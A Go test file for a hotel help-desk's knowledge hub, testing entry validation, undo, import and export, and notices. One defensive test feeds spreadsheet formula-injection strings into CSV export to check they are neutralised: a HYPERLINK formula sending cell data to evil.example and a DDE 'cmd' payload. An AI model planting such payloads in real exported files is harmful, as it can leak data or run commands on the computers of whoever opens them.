package hub_test

import (
	"context"
	"encoding/csv"
	"errors"
	"fmt"
	"os"
	"strings"
	"sync/atomic"
	"testing"
	"testing/synctest"
	"time"

	"deskbell/internal/desk"
	"deskbell/internal/knowledge/hub"
	"deskbell/internal/store"
	"deskbell/internal/store/memstore"
)

const harbour, mill = "harbour", "mill"

type rig struct {
	*hub.Hub
	t     *testing.T
	db    *memstore.Store
	carla desk.Person
	ana   desk.Person
	// knew counts how often somebody was told that knowledge changed.
	knew  atomic.Int64
	trial func(q hub.Trial) hub.Outcome
}

func newRig(t *testing.T) *rig {
	t.Helper()
	r := &rig{t: t, db: memstore.New(nil)}
	person := func(id string, role desk.Role) desk.Person {
		return desk.Person{ID: id, Email: id + "@example.org", Name: id, Role: role, Active: true, PropertyIDs: []string{harbour, mill}}
	}
	r.carla, r.ana = person("carla", desk.RoleKnowledgeManager), person("ana", desk.RoleAgent)
	r.write(func(tx store.Tx) error {
		for _, id := range []string{harbour, mill} {
			if err := tx.CreateProperty(desk.Property{ID: id, Key: id, Name: id, CreatedAt: tx.Now(), UpdatedAt: tx.Now()}); err != nil {
				return err
			}
		}
		return errors.Join(tx.CreatePerson(r.carla), tx.CreatePerson(r.ana))
	})
	var n atomic.Int64
	r.Hub = hub.New(hub.Config{Store: r.db, NewID: func() string { return fmt.Sprintf("id-%06d", n.Add(1)) }, Changed: func(string) { r.knew.Add(1) },
		Ask: func(_ context.Context, q hub.Trial) (hub.Outcome, error) { return r.trial(q), nil }})
	return r
}

func (r *rig) write(fn func(store.Tx) error) {
	r.t.Helper()
	if err := r.db.Write(context.Background(), fn); err != nil {
		r.t.Fatal(err)
	}
}

// works runs the hub until all of it waits, or for some time.
func (r *rig) works(d time.Duration) {
	r.t.Helper()
	ctx, stop := context.WithCancel(r.t.Context())
	done := make(chan error, 1)
	go func() { done <- r.Run(ctx) }()
	time.Sleep(d)
	synctest.Wait()
	stop()
	if err := <-done; err != nil {
		r.t.Error(err)
	}
}

func (r *rig) entries() (out []store.KnowledgeEntry) {
	r.t.Helper()
	if err := r.db.Read(context.Background(), func(tx store.Tx) (err error) {
		out, err = tx.KnowledgeEntries(harbour)
		return err
	}); err != nil {
		r.t.Fatal(err)
	}
	return out
}

func (r *rig) history() (out []store.KnowledgeChange) {
	r.t.Helper()
	if err := r.db.Read(context.Background(), func(tx store.Tx) (err error) {
		out, err = tx.History(store.HistoryFilter{PropertyID: harbour, Limit: 200})
		return err
	}); err != nil {
		r.t.Fatal(err)
	}
	return out
}

func said(question, answer string) hub.EntryInput {
	return hub.EntryInput{KnowledgeContent: store.KnowledgeContent{Questions: []string{question}, Answer: answer}}
}

func TestEntries_RefuseWhatIsNone(t *testing.T) {
	t.Parallel()
	r := newRig(t)
	with := func(change func(*store.KnowledgeContent)) hub.EntryInput {
		in := said("Sauna?", "Yes.")
		change(&in.KnowledgeContent)
		return in
	}
	for name, in := range map[string]hub.EntryInput{
		"no question":        with(func(c *store.KnowledgeContent) { c.Questions = []string{" ", "\x00"} }),
		"a long question":    with(func(c *store.KnowledgeContent) { c.Questions = []string{strings.Repeat("x", 501)} }),
		"a long answer":      with(func(c *store.KnowledgeContent) { c.Answer = strings.Repeat("x", 4001) }),
		"no language":        with(func(c *store.KnowledgeContent) { c.Language = "English!" }),
		"no day":             with(func(c *store.KnowledgeContent) { c.ValidFrom = "1 May" }),
		"days the wrong way": with(func(c *store.KnowledgeContent) { c.ValidFrom, c.ValidUntil = "2026-05-02", "2026-05-01" }),
		"a language twice": with(func(c *store.KnowledgeContent) {
			c.Versions = []store.KnowledgeText{{Language: "de", Answer: "a"}, {Language: "DE", Answer: "b"}}
		}),
		"its own language": with(func(c *store.KnowledgeContent) {
			c.Language, c.Versions = "de", []store.KnowledgeText{{Language: "de", Answer: "a"}}
		}),
		"a version without it": with(func(c *store.KnowledgeContent) { c.Versions = []store.KnowledgeText{{Answer: "a"}} }),
	} {
		if _, err := r.CreateEntry(t.Context(), r.carla, harbour, in); desk.CodeOf(err) != desk.CodeInvalid {
			t.Errorf("%s: %v", name, err)
		}
	}
	if n := len(r.entries()); n != 0 {
		t.Errorf("%d entries were made", n)
	}
	if _, err := r.CreateEntry(t.Context(), r.ana, harbour, said("Sauna?", "Yes.")); desk.CodeOf(err) != desk.CodeForbidden {
		t.Errorf("an agent writes: %v", err)
	}
}

// Whatever was done is undone in the order of its lines, back to nothing.
func TestUndo_BackToNothing(t *testing.T) {
	t.Parallel()
	r := newRig(t)
	ctx := t.Context()
	e, err := r.CreateEntry(ctx, r.carla, harbour, said("Sauna?", "Yes."))
	if err != nil {
		t.Fatal(err)
	}
	in := said("Sauna?", "Until ten.")
	in.Draft = true
	steps := []func() error{
		func() error { _, err := r.ChangeEntry(ctx, r.carla, harbour, e.ID, in); return err },
		func() error { _, err := r.PublishEntry(ctx, r.carla, harbour, e.ID, nil); return err },
		func() error { return r.DeleteEntry(ctx, r.carla, harbour, e.ID) },
	}
	for _, step := range steps {
		if err := step(); err != nil {
			t.Fatal(err)
		}
	}
	lines := r.history() // the newest first
	if err := r.Undo(ctx, r.carla, harbour, lines[1].N); desk.CodeOf(err) != desk.CodeConflict {
		t.Errorf("what was deleted since: %v", err)
	}
	for i, want := range []string{"Until ten.", "Yes. (draft: Until ten.)", "Yes.", ""} {
		if i == 1 { // what is no longer the last word is not undone over what came after
			var stale *hub.Stale
			if err := r.Undo(ctx, r.carla, harbour, lines[3].N); !errors.As(err, &stale) || stale.Entry == nil {
				t.Errorf("an older line: %v", err)
			}
		}
		if err := r.Undo(ctx, r.carla, harbour, lines[i].N); err != nil {
			t.Fatalf("undo %s: %v", lines[i].Action, err)
		}
		if got := strings.TrimPrefix(r.knows(harbour), "entry Sauna?: "); got != want {
			t.Errorf("after undoing %s: %s", lines[i].Action, got)
		}
	}
	if err := r.Undo(ctx, r.carla, mill, lines[0].N); desk.CodeOf(err) != desk.CodeNotFound {
		t.Errorf("another property's: %v", err)
	}
	f, err := r.PutFact(ctx, r.carla, harbour, "pool", hub.FactInput{State: "yes", Details: "Warm."})
	if err != nil || f.Rev != 1 {
		t.Fatalf("%+v, %v", f, err)
	}
	if err := r.Undo(ctx, r.carla, harbour, r.history()[0].N); err != nil {
		t.Fatal(err)
	}
	if err := r.db.Read(ctx, func(tx store.Tx) error {
		facts, err := tx.Facts(harbour)
		if len(facts) != 1 || facts[0].State != "unknown" || facts[0].Rev != 2 {
			t.Errorf("got %+v", facts)
		}
		return err
	}); err != nil {
		t.Fatal(err)
	}
}

func TestGaps_GroupWhatMeansTheSame(t *testing.T) {
	t.Parallel()
	at := time.Date(2026, 11, 23, 12, 0, 0, 0, time.UTC)
	ask := func(id, text, reply string) store.KnowledgeAsk {
		return store.KnowledgeAsk{ID: id, Text: text, Language: "en", At: at, Reply: reply}
	}
	gaps := hub.Gaps([]store.KnowledgeAsk{
		ask("1", "Is there a helipad?", ""), ask("2", "Do you have a casino?", "Ten minutes away, in Estoril."), ask("3", "do you have a CASINO", ""),
		ask("4", "is there any casino", ""), ask("5", "Can I pay in shells?", ""),
	})
	if len(gaps) != 3 || gaps[0].Question != "Do you have a casino?" || len(gaps[0].Asks) != 3 || gaps[0].Reply != "Ten minutes away, in Estoril." {
		t.Errorf("got %+v", gaps)
	}
}

func TestImports_NameBrokenRowsAndTakeTheRest(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		name, file   string
		rows, broken int
		at           int // the first broken row
	}{
		{"Latin-1", "Frage;Antwort\nW\xe4sche?;F\xfcnf Euro.\n", 1, 0, 0},
		{"UTF-16", "\xff\xfeq\x00u\x00e\x00s\x00t\x00i\x00o\x00n\x00,\x00a\x00n\x00s\x00w\x00e\x00r\x00\n\x00A\x00,\x00B\x00\n\x00", 1, 0, 0},
		{"tabs and a mark", "\ufeffQuestion\tAnswer\nA?\tB\n", 1, 0, 0},
		{"a row too short", "question,answer\nA?,B\nonly\nC?,D\n", 2, 1, 3},
		{"a row too long", "question,answer\nA?,B,and more\nC?,D\n", 1, 1, 2},
		{"a quote that never ends", "question,answer\nA?,\"B\nC?,D\nE?,F\n", 2, 1, 2},
		{"a quote inside a field", "question,answer\nA?,B \"or\" C\nD?,E\n", 1, 1, 2},
		{"no question", "question,answer\n,B\nC?,D\n", 1, 1, 2},
		{"an unknown fact", "kind,id,question,answer,state\nfact,nonsense,,x,yes\nfact,pool,,Warm.,yes\n", 1, 1, 2},
		{"figures that make no sense", "kind,id,question,answer,state,value\nfact,gym,,Open.,yes,\"{\"\"hours\"\":[{\"\"from\"\":\"\"25:00\"\"}]}\"\nfact,pool,,Warm.,yes,\"{\"\"hours\"\":[{\"\"from\"\":\"\"08:00\"\"}]}\"\n", 1, 1, 2},
		{"a version without its entry", "kind,id,language,question,answer\nversion,1,de,A?,B\n", 0, 1, 2},
		{"a list of JSON", `[{"questions":["A?"],"answer":"B"},{"questions":7},{"questions":["C?"]}]`, 2, 1, 2},
		{"lines within quotes", "question,answer\n\"A?\",\"one\ntwo\"\nonly\n", 1, 1, 4},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			r := newRig(t)
			i, err := r.Upload(t.Context(), r.carla, harbour, "x", []byte(c.file))
			if err != nil || i.Total != c.rows || i.BrokenRows != c.broken || c.broken > 0 && i.Broken[0].Row != c.at {
				t.Errorf("got %+v, %v", i, err)
			}
			if c.broken > 0 {
				if _, err := r.Start(t.Context(), r.carla, harbour, i.ID, false, true); desk.CodeOf(err) != desk.CodeInvalid {
					t.Errorf("all or nothing: %v", err)
				}
			}
		})
	}
	r := newRig(t)
	for _, file := range []string{"", "a,b\n1,2\n", `{"deskbell":99,"entries":[]}`, `{"x":1}`, strings.Repeat("\"x\n", 200)} {
		if i, err := r.Upload(t.Context(), r.carla, harbour, "x", []byte(file)); desk.CodeOf(err) != desk.CodeInvalid {
			t.Errorf("%.20q: %+v, %v", file, i, err)
		}
	}
}

// What Export writes is read back as it was, in both formats.
func TestExport_IsReadBack(t *testing.T) {
	t.Parallel()
	synctest.Test(t, func(t *testing.T) {
		r := newRig(t)
		in := said("Sauna?", "Yes,\n\"always\".")
		in.Language, in.BookedOnly, in.ValidFrom, in.ValidUntil = "en", true, "2026-05-01", "2026-10-31"
		in.Versions = []store.KnowledgeText{{Language: "de", Questions: []string{"Gibt es eine Sauna?", "Sauna?"}, Answer: "Ja."}}
		sauna, err := r.CreateEntry(t.Context(), r.carla, harbour, in)
		if err != nil {
			t.Fatal(err)
		}
		in.Answer, in.Draft, in.Versions = "Only on Sundays.", true, []store.KnowledgeText{{Language: "de", Answer: "Nur sonntags."}}
		if _, err := r.ChangeEntry(t.Context(), r.carla, harbour, sauna.ID, in); err != nil {
			t.Fatal(err)
		}
		if _, err := r.PutFact(t.Context(), r.carla, harbour, "pool", hub.FactInput{State: "yes", Details: "Warm; deep.", Value: []byte(`{"hours":[{"from":"08:00","until":"20:00"}]}`)}); err != nil {
			t.Fatal(err)
		}
		if _, err := r.PutTest(t.Context(), r.carla, harbour, "", store.KnowledgeTest{Question: "Pool?", Expect: "pool"}); err != nil {
			t.Fatal(err)
		}
		for _, format := range []string{"json", "csv"} {
			var file strings.Builder
			if err := r.Export(t.Context(), r.carla, harbour, format, &file); err != nil {
				t.Fatal(err)
			}
			i, err := r.Upload(t.Context(), r.carla, harbour, "x", []byte(file.String()))
			if err != nil || i.Total != 4 || i.BrokenRows != 0 || i.Format != format {
				t.Fatalf("%s: %+v, %v\n%s", format, i, err, file.String())
			}
			if _, err := r.Start(t.Context(), r.carla, harbour, i.ID, false, true); err != nil {
				t.Error(err)
			}
			r.works(0)
			if got := r.imported(i.ID); got.State != hub.ImportDone || got.Same != 4 {
				t.Errorf("%s read back changes something: %+v", format, got)
			}
			// A draft that was thrown away is there again, beside what guests are told.
			if _, err := r.DiscardDraft(t.Context(), r.carla, harbour, sauna.ID, nil); err != nil {
				t.Fatal(err)
			}
			if _, err := r.Start(t.Context(), r.carla, harbour, i.ID, false, true); err != nil {
				t.Error(err)
			}
			r.works(0)
			if got := r.imported(i.ID); got.Same != 3 || got.Changed != 1 {
				t.Errorf("%s brings a draft back: %+v", format, got)
			}
		}
	})
}

// Questions come from guests: in the table that somebody opens in a spreadsheet none of them is a formula, and read back
// they are what was asked.
func TestExport_HoldsNoFormula(t *testing.T) {
	t.Parallel()
	synctest.Test(t, func(t *testing.T) {
		r := newRig(t)
		asked := []string{`=HYPERLINK("https://evil.example/?"&A1,"Press")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "'=1+1", "''-1", "＝1+1", "It's =1", "'tis so?"}
		for _, q := range asked {
			if _, err := r.CreateEntry(t.Context(), r.carla, harbour, said(q, q)); err != nil {
				t.Fatal(err)
			}
		}
		var file strings.Builder
		if err := r.Export(t.Context(), r.carla, harbour, "csv", &file); err != nil {
			t.Fatal(err)
		}
		lines, err := csv.NewReader(strings.NewReader(file.String())).ReadAll()
		if err != nil || len(lines) != 1+len(asked) {
			t.Fatalf("%d lines, %v", len(lines), err)
		}
		for _, l := range lines {
			for _, field := range l {
				if strings.IndexAny(field, "=+-@＝＋－＠\t\r") == 0 {
					t.Errorf("a spreadsheet reckons %q", field)
				}
			}
		}
		i, err := r.Upload(t.Context(), r.carla, harbour, "x.csv", []byte(file.String()))
		if err != nil || i.BrokenRows != 0 {
			t.Fatalf("%+v, %v", i, err)
		}
		if _, err := r.Start(t.Context(), r.carla, harbour, i.ID, false, true); err != nil {
			t.Fatal(err)
		}
		r.works(0)
		if got := r.imported(i.ID); got.Same != len(asked) {
			t.Errorf("read back, they are something else: %+v", got)
		}
	})
}

// The table that the docs show is read.
func TestImports_TheTableOfTheDocs(t *testing.T) {
	t.Parallel()
	doc, err := os.ReadFile("../../../docs/knowledge.md")
	if err != nil {
		t.Fatal(err)
	}
	_, table, _ := strings.Cut(string(doc), "```csv\n")
	table, _, _ = strings.Cut(table, "```")
	r := newRig(t)
	i, err := r.Upload(t.Context(), r.carla, harbour, "faq.csv", []byte(table))
	if err != nil || i.Total != 2 || i.BrokenRows != 0 {
		t.Errorf("%+v, %v", i, err)
	}
}

func (r *rig) imported(id string) (i store.KnowledgeImport) {
	r.t.Helper()
	if err := r.db.Read(context.Background(), func(tx store.Tx) (err error) {
		i, err = tx.KnowledgeImport(harbour, id)
		return err
	}); err != nil {
		r.t.Fatal(err)
	}
	return i
}

// An import whose server died goes on with the next one, and takes nothing in twice; the test questions are asked once
// after it.
func TestImports_GoOnElsewhere(t *testing.T) {
	t.Parallel()
	synctest.Test(t, func(t *testing.T) {
		r := newRig(t)
		asked := 0
		r.trial = func(q hub.Trial) hub.Outcome {
			asked++
			return hub.Outcome{Decision: "answer", Source: "pool"}
		}
		if _, err := r.PutTest(t.Context(), r.carla, harbour, "", store.KnowledgeTest{Question: "Pool?", Expect: "pool"}); err != nil {
			t.Fatal(err)
		}
		var file strings.Builder
		file.WriteString("question,answer\n")
		for n := range 950 {
			fmt.Fprintf(&file, "Question %d?,Answer %d.\n", n, n)
		}
		i, err := r.Upload(t.Context(), r.carla, harbour, "x.csv", []byte(file.String()))
		if err != nil || i.Total != 950 {
			t.Fatalf("%+v, %v", i, err)
		}
		if _, err := r.Start(t.Context(), r.carla, harbour, i.ID, false, true); err != nil {
			t.Error(err)
		}
		// A server claims it, takes a part in, and is gone.
		if err := r.db.Write(t.Context(), func(tx store.Tx) error {
			_, err := tx.ClaimImport(tx.Now(), tx.Now().Add(30*time.Second))
			if err != nil {
				return err
			}
			for n := range 10 {
				e := store.KnowledgeEntry{ID: fmt.Sprintf("taken-%d", n), PropertyID: harbour, Questions: []string{fmt.Sprintf("Question %d?", n)}, Answer: fmt.Sprintf("Answer %d.", n)}
				if err := tx.PutEntry(e); err != nil {
					return err
				}
			}
			return nil
		}); err != nil {
			t.Error(err)
		}
		r.works(time.Minute)
		if got := r.imported(i.ID); got.State != hub.ImportDone || got.Done != 950 || got.Added != 940 || got.Same != 10 {
			t.Errorf("got %+v", got)
		}
		if n := len(r.entries()); n != 950 {
			t.Errorf("%d entries", n)
		}
		if asked != 1 {
			t.Errorf("the test question was asked %d times", asked)
		}
	})
}

// A stopped import ends between two transactions and stays stopped; started again it finishes.
func TestImports_StopAndRepeat(t *testing.T) {
	t.Parallel()
	synctest.Test(t, func(t *testing.T) {
		r := newRig(t)
		var file strings.Builder
		file.WriteString("question,answer\n")
		for n := range 450 {
			fmt.Fprintf(&file, "Question %d?,Answer %d.\n", n, n)
		}
		i, err := r.Upload(t.Context(), r.carla, harbour, "x.csv", []byte(file.String()))
		if err != nil {
			t.Fatal(err)
		}
		if _, err := r.Start(t.Context(), r.carla, harbour, i.ID, false, false); err != nil {
			t.Fatal(err)
		}
		if _, err := r.Start(t.Context(), r.carla, harbour, i.ID, false, false); desk.CodeOf(err) != desk.CodeConflict {
			t.Errorf("started twice: %v", err)
		}
		if _, err := r.Stop(t.Context(), r.carla, harbour, i.ID); err != nil {
			t.Fatal(err)
		}
		r.works(0)
		if got := r.imported(i.ID); got.State != hub.ImportStopped || len(r.entries()) != 0 {
			t.Errorf("a stopped one went on: %+v, %d entries", got, len(r.entries()))
		}
		if _, err := r.Start(t.Context(), r.carla, harbour, i.ID, false, false); err != nil {
			t.Fatal(err)
		}
		r.works(0)
		got := r.imported(i.ID)
		if got.State != hub.ImportDone || got.Added != 450 {
			t.Errorf("got %+v", got)
		}
		for _, e := range r.entries() {
			if !e.Hidden || e.Draft == nil {
				t.Fatalf("not a draft: %+v", e)
			}
		}
	})
}

func TestNotices_SevenDaysAtMost(t *testing.T) {
	t.Parallel()
	r := newRig(t)
	in := func(d time.Duration) hub.NoticeInput {
		return hub.NoticeInput{Text: "The lift is out of order.", Topic: "lift", Until: time.Now().Add(d)}
	}
	if _, err := r.PutNotice(t.Context(), r.ana, harbour, "", in(hub.NoticeLasts-time.Minute)); err != nil {
		t.Errorf("an agent's: %v", err)
	}
	for _, d := range []time.Duration{hub.NoticeLasts + time.Minute, -time.Minute} {
		if _, err := r.PutNotice(t.Context(), r.ana, harbour, "", in(d)); desk.CodeOf(err) != desk.CodeInvalid {
			t.Errorf("%s: %v", d, err)
		}
	}
	if r.knew.Load() != 1 {
		t.Errorf("told %d times", r.knew.Load())
	}
}
